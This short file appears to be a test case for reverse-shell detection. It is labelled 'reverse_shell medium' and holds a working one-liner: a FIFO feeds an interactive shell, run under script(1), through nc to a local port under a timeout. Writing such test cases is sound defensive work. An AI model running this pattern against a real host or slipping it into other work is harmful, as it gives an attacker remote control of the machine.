# about: script(1) gives the shell a terminal, nc carries what is typed and said
# expect: reverse_shell medium
# needs: python3 nc script
proven 4516
mkfifo f
timeout 7 sh -c 'script -qfc "sh -i" /dev/null <f | nc 127.0.0.1 4516 >f' || true
answered
